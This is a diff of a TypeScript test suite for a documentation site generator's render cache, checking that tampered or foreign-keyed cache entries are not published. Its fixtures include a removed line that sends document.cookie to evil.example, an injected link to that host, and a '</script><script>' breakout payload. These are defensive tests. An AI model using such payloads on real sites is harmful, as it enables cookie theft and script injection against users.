@@ -5,7 +5,8 @@ import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, statSync,
 import path from "node:path";
 import { resolveWorkspace } from "../../src/config/workspace.js";
 import { AdrgenError } from "../../src/domain/errors.js";
-import { buildSite, isDataScript, type BuildSiteOptions } from "../../src/site/build.js";
+import { buildSite, type BuildSiteOptions } from "../../src/site/build.js";
+import { openCacheAuth } from "../../src/site/cache-secret.js";
 import { SITE_MARKER } from "../../src/site/out-dir.js";
 import { nodeSiteWriterFs } from "../../src/site/site-writer.js";
 import { cleanupTempDirs, makeTempDir } from "../helpers/tmp.js";
@@ -321,17 +322,52 @@ describe("buildSite render cache", () => {
     for (const file of filesUnder(path.join(dir, ".adrgen/site"))) expect(readFileSync(path.join(dir, ".adrgen/site", file), "utf8")).not.toContain("PWNED_CACHE");
   });
 
-  it("does not publish a planted search index cache that holds code instead of data", async () => {
+  it("treats a cache written with another key as a miss, even when its markup looks like the renderer's", async () => {
+    const dir = repo();
+    // The cache as a commit would bring it: written on another machine, with that machine's key.
+    const other = openCacheAuth(path.join(makeTempDir(), "site-key"));
+    await build(dir, {}, { cacheAuth: () => other });
+    const cacheFile = path.join(dir, ".adrgen/cache/site-render.json");
+    const cache = JSON.parse(readFileSync(cacheFile, "utf8")) as { entries: Record<string, { html: string; text: string }> };
+    for (const entry of Object.values(cache.entries)) {
+      entry.html = '<p><a href="https://evil.example/PWNED_LINK">x</a></p>';
+      entry.text = "PWNED_TEXT";
+    }
+    writeFileSync(cacheFile, JSON.stringify(cache));
+    expect((await build(dir)).rendered).toBe(4);
+    for (const file of filesUnder(path.join(dir, ".adrgen/site"))) expect(readFileSync(path.join(dir, ".adrgen/site", file), "utf8")).not.toMatch(/PWNED_(LINK|TEXT)/);
+  });
+
+  it("rejects an entry whose text alone was edited", async () => {
     const dir = repo();
     await build(dir);
-    const cacheFile = path.join(dir, ".adrgen/cache/site-search-index.js");
-    const [header] = readFileSync(cacheFile, "utf8").split("\n");
-    writeFileSync(cacheFile, `${header}\nwindow.ADRGEN_SEARCH={};fetch("https://evil.example/?"+document.cookie);//PWNED_INDEX\n`);
+    const cacheFile = path.join(dir, ".adrgen/cache/site-render.json");
+    const cache = JSON.parse(readFileSync(cacheFile, "utf8")) as { entries: Record<string, { html: string; text: string }> };
+    for (const entry of Object.values(cache.entries)) entry.text = "PWNED_TEXT";
+    writeFileSync(cacheFile, JSON.stringify(cache));
+    expect((await build(dir)).rendered).toBe(4);
+    expect(readFileSync(path.join(dir, ".adrgen/site/assets/search-index.js"), "utf8")).not.toContain("PWNED_TEXT");
+  });
+
+  it("does not publish a planted search index cache (code, or links and titles of its own)", async () => {
+    const dir = repo();
+    await build(dir);
+    const cacheFile = path.join(dir, ".adrgen/cache/site-search-index.json");
+    const stored = JSON.parse(readFileSync(cacheFile, "utf8")) as { key: string; mac: string; index: string };
+    const planted = stored.index.replace(/"title":"[^"]*"/g, '"title":"PWNED_TITLE"');
+    writeFileSync(cacheFile, JSON.stringify({ ...stored, index: `${planted.slice(0, -1)},"x":"</script><script>PWNED_INDEX()</script>"}` }));
     await build(dir);
     const index = readFileSync(path.join(dir, ".adrgen/site/assets/search-index.js"), "utf8");
-    expect(index).not.toContain("PWNED_INDEX");
-    expect(isDataScript(index)).toBe(true);
-    expect(isDataScript('window.ADRGEN_SEARCH={"a":1};alert(1);\n')).toBe(false);
+    expect(index).not.toMatch(/PWNED_(INDEX|TITLE)/);
+    expect(index).not.toContain("javascript:");
+  });
+
+  it("keeps no cache when no key can be kept outside the repository", async () => {
+    const dir = repo();
+    const result = await build(dir, {}, { cacheAuth: () => undefined });
+    expect(result.rendered).toBe(4);
+    expect(existsSync(path.join(dir, ".adrgen/cache"))).toBe(false);
+    expect(openCacheAuth(path.join(makeTempDir({ "home-is-a-file": "x" }), "home-is-a-file", "adrgen", "site-key"))).toBeUndefined();
   });
 
   it("keeps no cache with cache: false", async () => {
